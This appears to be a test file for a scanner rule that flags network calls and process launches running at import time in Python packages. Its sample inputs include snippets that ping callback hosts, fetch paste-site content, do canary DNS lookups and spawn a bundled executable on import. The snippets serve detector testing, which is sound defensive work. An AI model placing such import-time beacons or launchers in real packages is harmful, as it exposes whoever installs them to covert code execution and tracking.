"""Requests of an import."""

from lazaretto.detect.rules.python.import_time_call import RULE


def test_to_a_request_catcher(scan):
    text = r"""import requests
requests.get("https://x.oast.test/0000")
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_to_a_paste_site(scan):
    text = r"""import requests
TEXT = requests.get("https://paste.example.test/raw/0000").text
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "MEDIUM", "MEDIUM", "import")]


def test_a_program_beside_it(scan):
    text = r"""import os, subprocess
subprocess.Popen([os.path.join(os.path.dirname(__file__), "helper.exe")])
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "MEDIUM", "import")]


def test_near_miss_when_called(scan):
    text = r"""import requests
def get():
    return requests.get("https://paste.example.test/raw/0000").text
"""
    assert scan(RULE, text, "package/__init__.py") == []


def test_a_name_that_is_looked_up_for_nothing(scan):
    text = """import socket
try:
    socket.gethostbyname("package.example-canary.test")
except OSError:
    pass
"""
    assert scan(RULE, text, "package-1.0/package/__init__.py") == [(3, "HIGH", "HIGH", "import")]
    used = "import socket\nADDRESS = socket.gethostbyname('time.example-canary.test')\n"
    assert scan(RULE, used, "package/__init__.py") == [(2, "MEDIUM", "MEDIUM", "import")]


def test_a_window_that_proves_that_it_ran(scan):
    text = 'import subprocess\nsubprocess.Popen(["notepad"])\n'
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
    assert scan(RULE, text.replace("notepad", "notepadqq-plugin"), "package/__init__.py") == []
